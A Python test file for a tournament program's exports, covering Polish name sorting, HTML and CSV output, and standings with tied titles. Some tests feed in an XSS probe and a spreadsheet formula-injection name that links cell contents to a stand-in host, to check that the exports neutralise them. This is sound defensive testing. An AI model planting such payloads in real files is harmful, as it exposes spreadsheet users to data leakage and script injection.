"""Exports: Polish order, shared places, HTML escaping, CSV quoting and the displayed SP."""

from __future__ import annotations

import csv
import io
import random
from pathlib import Path

from test_cli_support import Cli, play_rounds
from test_corrections import championship_at_the_semifinal
from test_tournament_cuts import per_player
from test_tournament_support import make_players, play_event

from hub.competition import Competition, EventCreated, OrganizerFact, ResultRecorded
from hub.conductor import Conductor
from hub.exports.grid import Sheet
from hub.exports.lists import seating_csv
from hub.exports.printouts import (
    find_table_html,
    ranking_html,
    scoresheets_html,
    seating_html,
    standings_html,
)
from hub.exports.results import results_csv
from hub.exports.standings import ranking_csv, ranking_grid, standings_csv, standings_grid
from hub.organizer import Organizer
from hub.store import EventStore
from hub.tournament import Player, PlayerCheckedIn, PlayerRegistered, collation_key, preset
from hub.tournament.ranking import UNDECIDED_TITLE
from hub.tournament.standings import place_labels
from tablekit.core.codec import decode
from tablekit.core.messages import StandingsBoard
from tablekit.core.scoring import GameEnding, GameReport, RackReport
from tablekit.core.seats import Seat
from tablekit.core.topics import Topics
from tablekit.shared.i18n import words

EN = words("en")


def test_polish_alphabetical_order() -> None:
    names = [
        "Żaneta",
        "Zenon",
        "Łucja",
        "Lucyna",
        "Ćma",
        "Celina",
        "adam",
        "Ąbc",
        "Bożena",
        "Émile",
    ]
    assert sorted(names, key=collation_key) == [
        "adam",
        "Ąbc",
        "Bożena",
        "Celina",
        "Ćma",
        "Émile",
        "Lucyna",
        "Łucja",
        "Zenon",
        "Żaneta",
    ]


def test_place_labels_mark_shared_places() -> None:
    assert place_labels([1, 2, 2, 4]) == ["1", "2=", "2=", "4"]


def event(names: list[str], preset_name: str = "school") -> Competition:
    comp = Competition().apply(
        EventCreated(at=1.0, name="Turniej <i>", preset=preset_name, format=preset(preset_name))
    )
    for i, name in enumerate(names, start=1):
        player = Player(f"P{i:03d}", name, 'Klub "A" & B')
        comp = comp.apply(OrganizerFact(at=1.0, fact=PlayerRegistered(player)))
        comp = comp.apply(OrganizerFact(at=1.0, fact=PlayerCheckedIn(player.id)))
    seated = comp.event.draw_next(3)
    return comp.apply(OrganizerFact(at=2.0, fact=seated))


def test_html_escapes_names_and_titles() -> None:
    comp = event(["<script>alert(1)</script>", "Ola & Ela", "Jan", "Ewa"])
    for doc in (
        seating_html(comp, EN),
        find_table_html(comp, EN),
        scoresheets_html(comp, EN),
        standings_html(comp, EN),
    ):
        assert "<script>" not in doc
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in doc
        assert "Ola &amp; Ela" in doc or "Ela Ola &amp;" in doc  # find your table: surname first
        assert "Turniej &lt;i&gt;" in doc
    assert "Klub &quot;A&quot; &amp; B" in seating_html(comp, EN)


def test_csv_quotes_delimiters_and_keeps_polish_letters() -> None:
    comp = event(["Kowalski, Jan", "Łucja; Ślęk", "Ola", "Ewa"])
    for delimiter in (",", ";"):
        text = seating_csv(comp, Sheet(EN, delimiter))
        rows = list(csv.DictReader(io.StringIO(text), delimiter=delimiter))
        assert {r["name"] for r in rows} == {"Kowalski, Jan", "Łucja; Ślęk", "Ola", "Ewa"}
        assert {r["code"] for r in rows} == {"1A", "1B", "1C", "1D"}


def test_championship_shows_small_points_winner_plus() -> None:
    comp = event([f"Gracz {i}" for i in range(16)], "championship")
    table = comp.event.seating("elimination-1")[0]
    report = GameReport(
        game=1,
        ending=GameEnding.WENT_OUT,
        racks=(
            RackReport(Seat.A, 0),
            RackReport(Seat.B, 10),
            RackReport(Seat.C, 20),
            RackReport(Seat.D, 30),
        ),
    )
    comp = comp.apply(
        ResultRecorded(at=3.0, by="judge", stage="elimination-1", table=1, report=report)
    )
    grid = standings_grid(comp, words=EN)
    winner = next(r for r in grid.rows if r[3] == table.players[0])
    assert winner[4:6] == ("4", "+60")  # placement BP; SP the winner plus, 002 too
    assert grid.note == ""
    html_text = standings_html(comp, EN)
    assert "+60" in html_text and "minus" not in html_text
    rows = list(csv.DictReader(io.StringIO(results_csv(comp, Sheet(EN)))))
    first = next(r for r in rows if r["seat"] == "A")
    assert (first["sp"], first["bp"], first["version"]) == ("60", "4", "1")
    assert "sp_shown" not in rows[0]
    assert "sp_shown" not in standings_csv(comp, Sheet(EN)).splitlines()[0]


def test_semicolon_export_for_polish_excel(tmp_path: Path) -> None:
    c = Cli(tmp_path / "e.sqlite3")
    c.ok("event", "create", "--preset", "winter", "--name", "Zima")
    for name in ("Żaneta", "Łucja", "Ćwik"):
        c.ok("players", "add", name, "--check-in")
    c.ok("round", "draw", "--seed", "2")
    c.ok("export", "csv", str(tmp_path / "out"), "--semicolon")
    text = (tmp_path / "out" / "seating.csv").read_bytes().decode("utf-8-sig")
    assert text.splitlines()[0] == "stage;round;table;group;code;player_id;name;club"
    assert not (tmp_path / "out" / "ranking.csv").exists()  # not finished


def test_ranking_csv_carries_the_same_small_points_as_the_standings(tmp_path: Path) -> None:
    c = Cli(tmp_path / "e.sqlite3")
    c.ok("event", "create", "--preset", "championship", "--name", "M")
    for i in range(16):
        c.ok("players", "add", f"Gracz {i}")
    c.ok("players", "check-in", "--all")
    play_rounds(c, random.Random(3), range(5))
    c.ok("export", "csv", str(tmp_path / "out"))

    def rows(name: str) -> list[dict[str, str]]:
        text = (tmp_path / "out" / name).read_text(encoding="utf-8-sig")
        return list(csv.DictReader(io.StringIO(text)))

    every = rows("standings.csv")  # every stage's standings, not only the final's
    stages = ["elimination-1", "elimination-2", "elimination-3", "semifinal", "final"]
    assert sorted({r["stage"] for r in every}, key=stages.index) == stages
    assert [r["round"] for r in every if r["place"] == "1"][:5] == ["1", "2", "3", "4", "5"]
    for stage, players in zip(stages, (16, 16, 16, 8, 4), strict=True):
        assert len([r for r in every if r["stage"] == stage]) == players, stage
    standings = {r["player_id"]: r for r in every if r["stage"] == "final"}
    finalists = [r for r in rows("ranking.csv") if r["player_id"] in standings]
    assert len(finalists) == 4  # the final's standings: places 1-4
    for row in finalists:
        assert row["sp"] == standings[row["player_id"]]["sp"]  # winner positive
        assert "sp_shown" not in row


def test_the_seating_legend_names_only_the_seats_in_use() -> None:
    three_seats = seating_html(event([f"Gracz {i}" for i in range(6)]), EN)
    assert "clockwise B, C.</p>" in three_seats  # 6 players: two tables of 3
    four_seats = seating_html(event([f"Gracz {i}" for i in range(7)]), EN)
    assert "clockwise B, C, D.</p>" in four_seats


FORMULA_NAME = '=HYPERLINK("http://x/?"&A1;"Kliknij")'


def test_no_csv_cell_runs_as_a_spreadsheet_formula_and_numbers_stay_numbers(
    tmp_path: Path,
) -> None:
    c = Cli(tmp_path / "e.sqlite3")
    c.ok("event", "create", "--preset", "school", "--name", "Szkoła")
    c.ok("players", "add", FORMULA_NAME, "--club", "@SUM(1+1)", "--check-in")
    for name in ("+Ala Lis", "-Ola Kot", "Jan Nowak"):
        c.ok("players", "add", name, "--club", "SP 1", "--check-in")
    play_rounds(c, random.Random(5), range(1))
    for public in ((), ("--public",)):
        out = tmp_path / f"out{len(public)}"
        c.ok("export", "csv", str(out), *public)
        for file in out.glob("*.csv"):
            for row in csv.reader(io.StringIO(file.read_text(encoding="utf-8-sig"))):
                for cell in row:
                    if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and cell != "-":
                        assert cell.lstrip("+-").replace(",", "").isdigit(), (file.name, cell)
        standings = (out / "standings.csv").read_text(encoding="utf-8-sig")
        assert "'@SUM(1+1)" in standings and "'+Ala" in standings
        assert any(cell.startswith("-") and cell[1:].isdigit()
                   for row in csv.reader(io.StringIO(standings))
                   for cell in row), "a negative number stays a number"
    again = Cli(tmp_path / "again.sqlite3")
    again.ok("event", "create", "--preset", "school", "--name", "Znowu")
    again.ok("players", "import", str(tmp_path / "out0" / "players.csv"))
    names = {p.name for p in again.competition().event.players.values()}
    assert FORMULA_NAME in names and "+Ala Lis" in names
    clubs = {p.club for p in again.competition().event.players.values()}
    assert "@SUM(1+1)" in clubs


def test_a_stages_standings_mark_who_went_on_once_the_next_stage_is_drawn(
    tmp_path: Path,
) -> None:
    c = championship_at_the_semifinal(tmp_path)
    comp = c.competition()
    grid = standings_grid(comp, "elimination-3", words=words("pl"))
    assert grid.headers[-1] == "Awans do"
    semifinal = {pid for t in comp.event.seating("semifinal") for pid in t.players}
    marked = {row[3] for row in grid.rows if row[-1] == "półfinał"}
    assert marked == semifinal and len(marked) == 8
    assert sum(row[-1] == "" for row in grid.rows) == 8
    printed = standings_html(comp, words("pl"), "elimination-3")
    assert printed.count("półfinał") >= 8
    before = standings_grid(comp, "elimination-2", words=words("pl"))
    assert "Awans do" not in before.headers  # everyone played the next elimination


def winter_finished_with_a_tie_for_third(db: Path) -> Organizer:
    """000 played to the end by 8 players, p03 and p04 level over both rounds: the place
    they share carries the vice-champion's title (3rd) and none (4th)."""
    players = make_players(8)
    points = {p.id: (0, -int(p.id[1:])) for p in players}
    points["p04"] = points["p03"]
    _, facts = play_event(preset("winter"), players, 1, fixed=per_player(points),
                          judge_lots=False)
    org = Organizer(EventStore(db), by="Ola")
    created = EventCreated(at=1.0, name="Zimowy", preset="winter", format=preset("winter"))
    org.record(created, *(OrganizerFact(at=2.0, fact=fact) for fact in facts))
    return org


def test_an_undecided_tie_for_a_title_is_undecided_everywhere(tmp_path: Path) -> None:
    """Never two holders of one title: the CSV, the printed ranking and the hub screen
    say the tie is the head judge's, as the note under the ranking does."""
    org = winter_finished_with_a_tie_for_third(tmp_path / "zimowy.sqlite3")
    comp = org.competition
    pl = words("pl")
    rows = list(csv.DictReader(io.StringIO(ranking_csv(comp, Sheet(pl))), delimiter=";"))
    titles = {row["Nr gracza"]: row["Tytuł"] for row in rows}
    assert titles["p03"] == titles["p04"] == "remis — decyduje sędzia"
    assert titles["p02"] == "wicemistrz"
    shown = {row[3]: row[4] for row in ranking_grid(comp, pl).rows}
    assert shown["p03"] == shown["p04"] == "remis — decyduje sędzia"
    assert "remis — decyduje sędzia" in ranking_html(comp, pl)
    board = decode(StandingsBoard, next(
        m.payload for m in Conductor(org, Topics("hall", "x")).messages()
        if m.topic.endswith("/standings")
    ))
    assert [line.title for line in board.rows if line.place == 3] == [UNDECIDED_TITLE] * 2
